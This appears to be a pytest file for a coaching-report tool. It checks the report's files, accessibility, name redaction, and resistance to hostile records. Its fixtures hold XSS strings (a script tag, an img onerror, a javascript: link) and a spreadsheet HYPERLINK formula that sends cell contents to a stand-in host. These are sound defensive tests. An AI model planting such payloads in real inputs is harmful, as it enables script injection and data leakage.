"""The main job as a coach runs it: one command as a process, the page in a browser, and no name in anything it wrote."""

import csv
import getpass
import html
import json
import re
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path

import nbformat
import pytest
from cells import Notebooks, drawn, shown
from folders import write
from opened import opened
from plotly.offline import get_plotlyjs
from registered import folded, registered, rows, standing, texts

from coachkit.notebooks import REPORT
from coachkit.result_tables import RESULT_TABLES
from conftest import ROOT

FOLDER = "Isla Thornbury for Brackwell"
"""The practice's own folder bears the coach's name and a client's firm: neither may stand in what is written."""


@dataclass(frozen=True)
class Run:
    """A finished `coachkit report`, and the folder that it left."""

    done: subprocess.CompletedProcess
    practice: Path
    folder: Path

    @property
    def page(self) -> Path:
        return self.folder / "index.html"

    @property
    def notebooks(self) -> Notebooks:
        return {path.stem: nbformat.read(path, as_version=4) for path in sorted(self.folder.glob("*.ipynb"))}

    @property
    def html(self) -> str:
        """The page without plotly's own code, which holds all manner of words."""
        text = self.page.read_text("utf-8")
        assert text.count(get_plotlyjs()) == 1
        return text.replace(get_plotlyjs(), "")


def report(practice: Path, elsewhere: Path) -> Run:
    """The command as a person would give it, from a folder that is neither the practice nor the project."""
    elsewhere.mkdir()
    command = [sys.executable, "-m", "coachkit", "report", str(practice), "--out", "my reports"]
    done = subprocess.run(command, cwd=elsewhere, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    return Run(done, practice, Path(done.stdout.splitlines()[-1]).parent)


@pytest.fixture(scope="module")
def run(tmp_path_factory, example) -> Run:
    """The report on a copy of the example."""
    home = tmp_path_factory.mktemp("home")
    practice = shutil.copytree(example, home / FOLDER, ignore=shutil.ignore_patterns(".seen.json"))
    return report(practice, home / "elsewhere")


@pytest.fixture(scope="module")
def wide(run, browser) -> Iterator:
    """Its page in a window of a desk's width."""
    with opened(browser, run.page) as page:
        yield page


def test_one_command_leaves_the_page_the_notebooks_and_every_table_and_prints_where(run):
    assert run.done.stdout == f"{run.page}\n"
    assert run.folder.parent == run.practice.parent / "elsewhere" / "my reports"
    assert re.fullmatch(r"coach-for-O\d\d-2026-03-27-[0-9a-f]{8}", run.folder.name)
    left = {file.relative_to(run.folder).as_posix() for file in run.folder.rglob("*") if file.is_file()}
    assert left == {
        "index.html",
        *(f"{name}.ipynb" for name in REPORT),
        *(f"tables/{name}.csv" for name in RESULT_TABLES),
    }
    assert re.search(r": cell (\d+) of \1$", run.done.stderr.splitlines()[-1])
    assert "problem" not in run.done.stderr


def test_every_table_has_its_columns_and_the_hours_add_up(run):
    tables = {name: rows(run.folder / "tables" / f"{name}.csv") for name in RESULT_TABLES}
    heads = {name: [column.name for column in table.columns] for name, table in RESULT_TABLES.items()}
    bare = {name for name, table in tables.items() if not table}
    assert bare == {"broken_links", "like_proposals", "to_judge_again"}  # nothing of the sort is in the example
    written = {name: (run.folder / "tables" / f"{name}.csv").read_text("utf-8") for name in RESULT_TABLES}
    assert {name: next(csv.reader([text.splitlines()[0]])) for name, text in written.items()} == heads
    minutes = {row["measure"]: int(row["minutes"]) for row in tables["hours_summary"]}
    excluded = sum(int(row["minutes"]) for row in tables["hours_excluded"])
    assert minutes["logged"] == sum(int(row["minutes"]) for row in rows(run.practice / "contacts.csv"))
    assert (
        minutes["logged"] - excluded
        == minutes["claimable"]
        == sum(int(row["minutes"]) for row in tables["hours_by_month"])
    )


# The page in a browser


def test_the_page_asks_for_nothing_and_nothing_in_it_fails(wide):
    assert wide.requests == [wide.address]
    assert wide.trouble() == []


def test_as_many_charts_are_drawn_as_the_notebooks_showed(run, wide):
    expected = drawn(run.notebooks)
    assert expected >= 10
    assert len(wide.charts()) == expected
    assert wide.blank() == []
    assert wide.page.locator(".js-plotly-plot svg.main-svg").count() >= expected


def test_on_a_phone_every_chart_is_drawn_within_the_screen_and_nothing_scrolls_sideways(run, browser):
    with opened(browser, run.page, width=360) as phone:
        assert len(phone.charts()) == drawn(run.notebooks)
        assert phone.blank() == []
        assert [one["id"] for one in phone.charts() if one["width"] > 360] == []
        assert phone.page.evaluate("[document.documentElement.scrollWidth, document.body.scrollWidth]") == [360, 360]
        assert phone.trouble() == []


def test_a_keyboard_reaches_the_findings_first(wide):
    wide.page.keyboard.press("Tab")
    target = wide.page.evaluate("document.activeElement.getAttribute('href')")
    assert wide.page.evaluate("document.activeElement.className") == "skip"
    assert wide.page.locator(target).evaluate("one => one.tagName") == "MAIN"


def test_headings_nest_and_one_is_of_the_first_level(wide):
    levels = wide.page.evaluate(
        "[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map((one) => Number(one.tagName[1]))"
    )
    assert (levels[0], levels.count(1)) == (1, 1)
    assert [pair for pair in pairwise(levels) if pair[1] > pair[0] + 1] == []


def test_every_table_has_a_caption_and_heads_with_a_scope(wide):
    assert wide.page.locator("table").count() >= 12
    assert wide.page.locator("table:not(:has(> caption))").count() == 0
    assert wide.page.locator("th:not([scope=col]):not([scope=row])").count() == 0
    assert wide.page.locator("table:not(:has(th))").count() == 0


def test_every_chart_says_its_finding_to_those_who_do_not_see_it(run, wide):
    labels = wide.page.evaluate(
        "[...document.querySelectorAll('.plot')].map((one) => [one.getAttribute('role'), one.getAttribute('aria-label')])"
    )
    alts = [one["alt"] for one in shown(run.notebooks, "chart") if one["figure"]["data"]]
    assert sorted(labels) == sorted(["img", alt] for alt in alts)
    assert [alt for alt in alts if len(alt) < 40] == []


def test_findings_stand_first_and_each_leads_to_its_place(wide):
    findings = wide.page.evaluate(
        "[...document.querySelectorAll('.findings > li')].map((one) => one.querySelector('p > a')?.getAttribute('href'))"
    )
    assert 1 <= len(findings) <= 5
    places = set(wide.page.evaluate("[...document.querySelectorAll('[id]')].map((one) => `#${one.id}`)"))
    assert [link for link in findings if link not in places] == []
    links = wide.page.evaluate("[...document.querySelectorAll('a')].map((one) => one.getAttribute('href'))")
    assert [link for link in links if link not in places] == []


def test_no_id_stands_twice(wide):
    ids = wide.page.evaluate("[...document.querySelectorAll('[id]:not(svg [id])')].map((one) => one.id)")
    assert sorted(ids) == sorted(set(ids))


def test_paper_has_the_short_tables_open_each_long_one_as_a_line_and_no_navigation(wide, tmp_path):
    folded = wide.page.locator("details:not([open])").count()
    long = wide.page.locator("details:not(.printed)").count()
    assert folded >= 12 + long
    wide.page.pdf(path=tmp_path / "page.pdf", format="A4")
    assert wide.page.evaluate("seen").count(f"printed with {long} folded") == 1
    assert wide.page.locator("details:not([open])").count() == folded
    wide.page.emulate_media(media="print")
    assert not wide.page.locator("nav").is_visible()
    wide.page.emulate_media(media="screen")


# No name in anything that was written


def written(run: Run) -> dict[str, str]:
    """All text and data that a run wrote, by file, as a person or a program would read it; and the names of the files."""
    data = re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', run.html, re.DOTALL)
    everything = {"index.html": html.unescape(re.sub(r'"bdata":"[^"]*"', "", run.html))}
    everything["index.html, its data"] = "\n".join(one for figure in data for one in texts(json.loads(figure)))
    for path in run.folder.rglob("*.ipynb"):
        everything[path.name] = "\n".join(texts(json.loads(path.read_text("utf-8"))))
    for path in run.folder.rglob("*.csv"):
        everything[path.name] = "\n".join(cell for row in rows(path) for cell in (*row, *row.values()))
    everything["names of files"] = "\n".join(
        path.relative_to(run.folder.parent).as_posix() for path in run.folder.rglob("*")
    )
    return everything


def test_the_test_itself_knows_a_name_when_it_sees_one(example):
    names = registered(example)
    assert {"Gareth Pemberley", "Pemberley", "Wisniewski-Hale", "Zak", "O'Dwyer-Kerr", "Harrow & Vane", "Callum Reyes-Hart",
            "Marcus Tennant", "Tennant", "Isla Thornbury", "Maren Holloway-Bates", "Lattice Foods"} <= names  # fmt: skip
    assert not {"leaders", "five", "P", "Gaz"} & names
    hidden = "WIŚNIEWSKI-HALE said o’dwyer-kerr; a hale man, harrow & vane, Hale's, pemberley_notes, Pemberleys"
    assert standing(names, hidden) == {"WISNIEWSKI-HALE", "o'dwyer-kerr", "harrow & vane", "Hale", "pemberley"}


def test_no_registered_full_name_surname_or_organisation_stands_in_anything_written(run):
    names = registered(run.practice)
    assert standing(names, (run.practice / "sheets.csv").read_text("utf-8")) != set()
    assert {file: found for file, text in written(run).items() if (found := standing(names, text))} == {}


def test_nothing_written_tells_of_the_machine(run):
    places = {
        str(Path.home()),
        f"/{getpass.getuser()}/",
        str(run.practice.parent),
        str(run.practice),
        str(ROOT),
        sys.prefix,
    }
    host = socket.gethostname()
    for file, text in written(run).items():
        assert [place for place in places if place in text] == [], file
        assert re.findall(rf"(?<![\w.-]){re.escape(host)}(?![\w-])", text) == [], file


# Records that are not friendly

ALERT = "<script>alert(1)</script>"
IMAGE = '<img src="http://example.invalid/x.png" onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"here")'
LINKS = "[mine](javascript:alert(1)) and [there](http://example.invalid/) ![seen](http://example.invalid/x.png) <http://example.invalid/>"
HOSTILE = {
    "practice.toml": 'coach = "Zelda Marchbanks"\n',
    "clients.csv": "client_id,name,organisation,consent,email,phone\n"
    "C01,Ada Quillfeather,Pargiter Mills,yes,ada@pargiter.test,01632 960123\nC02,Björn Okonkwo,Pargiter Mills,yes,,\n",
    "contacts.csv": "contact_id,sheet_id,date,client_id,minutes,planned\nK1,S1,2025-01-06,C01,60,yes\nK2,S2,2025-01-20,C02,45,no\n"
    f'K3,S2,2025-01-21,C01,"{IMAGE.replace(chr(34), chr(34) * 2)}",no\nK4,S2,{ALERT},C02,30,no\n',
    "sheets.csv": "sheet_id,written_on,text\n"
    f'S1,2025-01-06,"I felt unsure when Ada Quillfeather said {ALERT}. Next time I will ask her first. {LINKS}"\n'
    f'S2,2025-01-20,"{FORMULA.replace(chr(34), chr(34) * 2)} is what Björn wrote. I learnt that </script>{ALERT} is his joke."\n',
    "feedback.csv": "feedback_id,date,client_id,voice,solicited,text\n"
    f"F1,2025-01-21,C01,client,no,You challenged me {ALERT} and it helped.\n"
    f"F2,2025-01-22,C02,client,yes,\"I would have liked more structure {IMAGE.replace(chr(34), chr(34) * 2)}. Call Ada on 01632 960123 or ada@pargiter.test.\"\n",
    "commentary/hours.md": f"# Mine\n\n{LINKS}\n\n{ALERT}\n\n{IMAGE}\n\n{FORMULA}\n",
}  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Run:
    """The report on a small practice whose texts would like to be more than text."""
    home = tmp_path_factory.mktemp("hostile")
    return report(write(home / "p <b>x", HOSTILE), home / "elsewhere")


def test_rows_that_cannot_be_read_are_counted_on_stderr_and_the_page_stands(hostile):
    told = hostile.done.stderr.splitlines()[-1]
    assert (
        told == f"2 problems in the records are left out of it; `coachkit check {hostile.practice}` lists what to mend"
    )


def test_nothing_in_the_records_runs_asks_or_links_and_all_of_it_is_text(hostile, browser):
    with opened(browser, hostile.page) as page:
        assert page.requests == [page.address]
        assert page.trouble() == []
        assert len(page.charts()) == drawn(hostile.notebooks)
        assert page.blank() == []
        assert page.page.locator("script:not([type])").count() == 2  # plotly's and the page's own
        assert page.page.locator("img, iframe, object, embed, form, link, base").count() == 0
        assert [
            link
            for link in page.page.evaluate("[...document.querySelectorAll('a')].map((one) => one.getAttribute('href'))")
            if link[0] != "#"
        ] == []
        text = page.text()
    for words in (ALERT, IMAGE, FORMULA, "[mine](javascript:alert(1))", "![seen](http://example.invalid/x.png)"):
        assert words in text


def test_hostile_notebooks_hold_no_live_script_either(hostile):
    outputs = [output for one in hostile.notebooks.values() for cell in one.cells for output in cell.get("outputs", [])]
    pages = [output["data"].get("text/html", "") for output in outputs if "data" in output]
    assert [page for page in pages if re.search(r"<(script|img|iframe)|href=|onerror=\"", page)] == []


def test_no_address_or_telephone_number_of_a_client_is_written(hostile):
    names = {
        "Ada Quillfeather",
        "Quillfeather",
        "Okonkwo",
        "Björn",
        "Pargiter Mills",
        "Marchbanks",
        "01632 960123",
        "ada@pargiter.test",
    }
    assert {
        file: found for file, text in written(hostile).items() if (found := standing(map(folded, names), text))
    } == {}
